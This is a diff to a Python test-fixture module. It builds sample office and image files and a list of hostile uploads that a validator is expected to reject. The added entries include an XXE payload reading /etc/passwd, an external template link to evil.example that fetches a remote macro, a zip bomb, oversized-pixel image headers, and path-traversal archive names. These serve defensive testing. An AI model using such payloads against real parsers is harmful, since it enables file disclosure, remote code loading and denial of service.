@@ -5,6 +5,8 @@ from __future__ import annotations
 import struct
 import zipfile
 import zlib
+from collections.abc import Mapping
+from dataclasses import dataclass
 from io import BytesIO
 
 WORD = "wordprocessingml.document"
@@ -13,7 +15,16 @@ _MAIN = {WORD: "word/document.xml", SHEET: "xl/workbook.xml"}
 OLD_OFFICE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
 
 
-def office(kind: str, *, main: str = "", extra: dict[str, bytes] | None = None, types: str = "") -> bytes:
+@dataclass(frozen=True)
+class Zeros:
+    """So many megabytes of nothing, which pack well."""
+
+    count: int
+
+
+def office(
+    kind: str, *, main: str = "", extra: Mapping[str, bytes | Zeros] | None = None, types: str = ""
+) -> bytes:
     """A small office file; ``main`` overrides the main part's content type, ``extra`` adds parts."""
     declared = main or f"application/vnd.openxmlformats-officedocument.{kind}.main+xml"
     listing = f'<Types><Override PartName="/{_MAIN[kind]}" ContentType="{declared}"/>{types}</Types>'
@@ -22,7 +33,9 @@ def office(kind: str, *, main: str = "", extra: dict[str, bytes] | None = None, 
         archive.writestr("[Content_Types].xml", listing)
         archive.writestr(_MAIN[kind], b"<x/>")
         for name, content in (extra or {}).items():
-            archive.writestr(name, content)
+            with archive.open(name, "w") as part:
+                for _ in range(content.count if isinstance(content, Zeros) else 1):
+                    part.write(bytes(1 << 20) if isinstance(content, Zeros) else content)
     return out.getvalue()
 
 
@@ -40,9 +53,9 @@ def _chunk(kind: bytes, data: bytes) -> bytes:
     return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
 
 
-def png() -> bytes:
-    """One black dot."""
-    header = struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)
+def png(wide: int = 1, tall: int = 1) -> bytes:
+    """One black dot, or what says that it is larger."""
+    header = struct.pack(">IIBBBBB", wide, tall, 8, 0, 0, 0, 0)
     return (
         b"\x89PNG\r\n\x1a\n"
         + _chunk(b"IHDR", header)
@@ -51,10 +64,10 @@ def png() -> bytes:
     )
 
 
-def jpeg() -> bytes:
+def jpeg(wide: int = 1, tall: int = 1) -> bytes:
     """The skeleton of a photograph: application segment, frame, scan, end."""
     app = b"\xff\xe0" + struct.pack(">H", 16) + b"JFIF\0" + b"\0" * 9
-    frame = b"\xff\xc0" + struct.pack(">HBHHB", 11, 8, 1, 1, 1) + b"\x01\x11\x00"
+    frame = b"\xff\xc0" + struct.pack(">HBHHB", 11, 8, tall, wide, 1) + b"\x01\x11\x00"
     return (
         b"\xff\xd8" + app + frame + b"\xff\xda" + struct.pack(">H", 8) + b"\x01\x01\0\0\x3f\0" + b"\0\xff\xd9"
     )
@@ -90,6 +103,11 @@ _EXE = b"MZ" + b"\0" * 200
 _ELF = b"\x7fELF" + b"\0" * 200
 
 #: (name, content, code of the refusal)
+_READS_A_FILE = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'
+_FETCHED_TEMPLATE = (
+    b'<Relationships><Relationship Id="r" Type="http://x/officeDocument/2006/relationships/attachedTemplate" '
+    b'Target="https://evil.example/m.dotm" TargetMode="External"/></Relationships>'
+)
 HOSTILE: list[tuple[str, bytes, str]] = [
     ("x.svg", _SVG, "evidence_kind"),
     ("x.html", _HTML, "evidence_kind"),
@@ -135,6 +153,17 @@ HOSTILE: list[tuple[str, bytes, str]] = [
     ("x.docx", b"PK\x03\x04" + b"\0" * 100, "evidence_damaged"),
     ("x.docx", office(WORD, extra={"../../etc/passwd": b"x"}), "evidence_damaged"),
     ("x.docx", office(WORD, extra={"/etc/passwd": b"x"}), "evidence_damaged"),
+    ("x.docx", office(WORD, extra={"word/styles.xml": _READS_A_FILE}), "evidence_damaged"),
+    ("x.xlsx", office(SHEET, extra={"xl/_rels/workbook.xml.rels": _READS_A_FILE}), "evidence_damaged"),
+    (
+        "x.docx",
+        office(WORD, extra={"word/styles.xml": _READS_A_FILE.decode().encode("utf-16")}),
+        "evidence_damaged",
+    ),
+    ("x.docx", office(WORD, extra={"word/_rels/settings.xml.rels": _FETCHED_TEMPLATE}), "evidence_macro"),
+    ("x.docx", office(WORD, extra={"word/media/grows.xml": Zeros(501)}), "evidence_unpacked"),
+    ("x.png", png(50_000, 50_000), "evidence_pixels"),
+    ("x.jpg", jpeg(65_535, 65_535), "evidence_pixels"),
     ("x.png", _SVG, "evidence_mismatch"),
     ("x.png", jpeg(), "evidence_mismatch"),
     ("x.png", png() + _HTML, "evidence_damaged"),
